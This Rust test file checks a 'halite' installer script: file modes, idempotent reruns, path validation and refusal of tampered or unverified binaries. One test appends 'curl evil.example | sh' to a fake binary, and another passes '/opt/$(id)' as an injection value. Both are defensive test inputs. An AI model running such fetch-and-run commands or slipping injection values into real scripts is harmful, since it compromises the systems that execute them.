//! `scripts/install` into a temp prefix: the files and modes it makes, what a second run keeps,
//! and its refusals of a tampered binary, a missing entry or a missing SHA256SUMS file. The
//! "binaries" are small scripts with a SHA256SUMS written for them: the installer is what is
//! tested, and it treats every binary alike (scripts/verify-packages installs the real ones).

use halite_tests::{run, Output, TempDir};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;

const BINARIES: [&str; 5] =
    ["halite-master", "halite-minion", "halite", "halite-key", "halite-run"];

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("..")
}

/// What a binary `name` of the release directory holds.
fn binary(name: &str) -> String {
    format!("#!/bin/sh\necho {name} 0.1.0\n")
}

/// A release directory as scripts/build-static leaves it: the five binaries and SHA256SUMS.
fn release(tmp: &TempDir) -> PathBuf {
    let dir = tmp.join("release");
    for name in BINARIES {
        tmp.write(format!("release/{name}"), binary(name));
    }
    let sums = run(Command::new("sha256sum").args(BINARIES).current_dir(&dir));
    assert!(sums.success(), "sha256sum: {}", sums.stderr);
    std::fs::write(dir.join("SHA256SUMS"), sums.stdout).unwrap();
    dir
}

fn install(from: &Path, prefix: &Path, extra: &[&str]) -> Output {
    let mut cmd = Command::new(repo().join("scripts/install"));
    cmd.arg("--prefix").arg(prefix).arg("--from").arg(from).args(extra);
    run(&mut cmd)
}

#[track_caller]
fn mode(path: &Path) -> u32 {
    let meta = std::fs::metadata(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    meta.permissions().mode() & 0o7777
}

#[test]
fn installs_binaries_configs_units_and_private_directories() {
    let tmp = TempDir::new();
    let from = release(&tmp);
    let root = tmp.join("root");
    let out = install(&from, &root, &[]);
    assert!(out.success(), "install failed: {}{}", out.stdout, out.stderr);

    for name in BINARIES {
        let path = root.join("usr/local/bin").join(name);
        assert_eq!(mode(&path), 0o755, "{name}");
        assert_eq!(std::fs::read_to_string(&path).unwrap(), binary(name), "{name}");
        assert!(out.stdout.contains(&format!("installed  /usr/local/bin/{name} (verified)")));
    }
    for name in ["master", "minion"] {
        let path = root.join("etc/halite").join(name);
        assert_eq!(mode(&path), 0o644);
        let shipped = std::fs::read_to_string(repo().join("dist/etc").join(name)).unwrap();
        assert_eq!(std::fs::read_to_string(path).unwrap(), shipped);
    }
    for (dir, want) in [
        ("etc/halite/pki/master", 0o700),
        ("etc/halite/pki/minion", 0o700),
        ("var/cache/halite/master", 0o700),
        ("var/cache/halite/minion", 0o700),
        ("var/log/halite", 0o750),
        ("etc/halite/master.d", 0o755),
        ("etc/halite/minion.d", 0o755),
    ] {
        assert_eq!(mode(&root.join(dir)), want, "{dir}");
    }
    // The units name the binaries where they were put, and nothing is enabled.
    let unit = std::fs::read_to_string(root.join("etc/systemd/system/halite-master.service"));
    assert!(unit.unwrap().contains("\nExecStart=/usr/local/bin/halite-master -c /etc/halite\n"));
    assert_eq!(mode(&root.join("etc/systemd/system/halite-minion.service")), 0o644);
    assert!(!root.join("etc/systemd/system/multi-user.target.wants").exists());
    // Into a prefix no user is made and nothing is chowned, even as root.
    assert!(out.stdout.contains("skipped    the halite user and ownership"), "{}", out.stdout);
}

#[test]
fn a_second_run_changes_nothing_and_keeps_the_admins_config() {
    let tmp = TempDir::new();
    let from = release(&tmp);
    let root = tmp.join("root");
    assert!(install(&from, &root, &[]).success());
    let config = root.join("etc/halite/master");
    std::fs::write(&config, "interface: 10.0.0.1\n").unwrap();
    std::fs::set_permissions(root.join("etc/halite/pki/master"), PermissionsExt::from_mode(0o755))
        .unwrap();

    let out = install(&from, &root, &[]);
    assert!(out.success(), "{}{}", out.stdout, out.stderr);
    assert!(out.stdout.contains("unchanged  /usr/local/bin/halite-master\n"), "{}", out.stdout);
    assert!(out.stdout.contains("unchanged  /etc/halite/minion\n"));
    assert!(out.stdout.contains(
        "kept       /etc/halite/master (yours); the new default is /etc/halite/master.new\n"
    ));
    assert_eq!(std::fs::read_to_string(&config).unwrap(), "interface: 10.0.0.1\n");
    let shipped = std::fs::read(repo().join("dist/etc/master")).unwrap();
    assert_eq!(std::fs::read(root.join("etc/halite/master.new")).unwrap(), shipped);
    assert_eq!(mode(&root.join("etc/halite/pki/master")), 0o700, "the key dir's mode is restored");
}

#[test]
fn bin_dir_and_no_systemd() {
    let tmp = TempDir::new();
    let from = release(&tmp);
    let root = tmp.join("root");
    let out = install(&from, &root, &["--bin-dir", "/opt/halite/bin", "--no-systemd"]);
    assert!(out.success(), "{}{}", out.stdout, out.stderr);
    assert_eq!(mode(&root.join("opt/halite/bin/halite-minion")), 0o755);
    assert!(!root.join("usr/local/bin").exists());
    assert!(!root.join("etc/systemd").exists());

    for bad in ["relative/bin", "/opt/my bin", "/opt/x#y", "/opt/$(id)"] {
        let out = install(&from, &root, &["--bin-dir", bad]);
        assert_eq!(out.status, Some(64), "{bad}: {}", out.stderr);
        assert!(out.stderr.contains("error: --bin-dir must be an absolute path"), "{}", out.stderr);
    }
    let out = install(&from, &root, &["--enable"]);
    assert_eq!(out.status, Some(64));
    assert!(out.stderr.contains("error: unknown argument '--enable'"), "{}", out.stderr);
}

#[test]
fn a_tampered_binary_is_refused_and_nothing_is_installed() {
    let tmp = TempDir::new();
    let from = release(&tmp);
    std::fs::write(from.join("halite-key"), binary("halite-key") + "curl evil.example | sh\n")
        .unwrap();
    let root = tmp.join("root");

    let out = install(&from, &root, &[]);
    assert_eq!(out.status, Some(1), "{}{}", out.stdout, out.stderr);
    assert!(out.stderr.contains("error: halite-key: checksum mismatch: "), "{}", out.stderr);
    assert!(out.stderr.contains("refusing it\nnothing was installed\n"), "{}", out.stderr);
    // Not even the binaries checked before it, nor their staged copies.
    let bin_dir = std::fs::read_dir(root.join("usr/local/bin")).unwrap().count();
    assert_eq!(bin_dir, 0, "files left in the bin dir");
    assert!(!root.join("etc").exists());
}

#[test]
fn a_missing_entry_or_sums_file_is_refused_by_name() {
    let tmp = TempDir::new();
    let from = release(&tmp);
    let root = tmp.join("root");
    let sums = std::fs::read_to_string(from.join("SHA256SUMS")).unwrap();
    let without: String =
        sums.lines().filter(|l| !l.ends_with(" halite-run")).map(|l| l.to_owned() + "\n").collect();
    std::fs::write(from.join("SHA256SUMS"), without).unwrap();
    let out = install(&from, &root, &[]);
    assert_eq!(out.status, Some(1));
    let want =
        format!("error: {}/SHA256SUMS has no entry for halite-run: refusing it", from.display());
    assert!(out.stderr.contains(&want), "{}", out.stderr);

    // Two entries for one name are not a choice the script makes.
    std::fs::write(from.join("SHA256SUMS"), format!("{sums}{sums}")).unwrap();
    let out = install(&from, &root, &[]);
    assert_eq!(out.status, Some(1));
    assert!(out.stderr.contains("lists halite-master more than once"), "{}", out.stderr);

    std::fs::remove_file(from.join("SHA256SUMS")).unwrap();
    let root = tmp.join("another-root");
    let out = install(&from, &root, &[]);
    assert_eq!(out.status, Some(1));
    assert!(out.stderr.contains("SHA256SUMS not found: refusing to install unverified binaries"));
    assert!(!root.join("usr").exists(), "nothing is created before the sums are found");
}
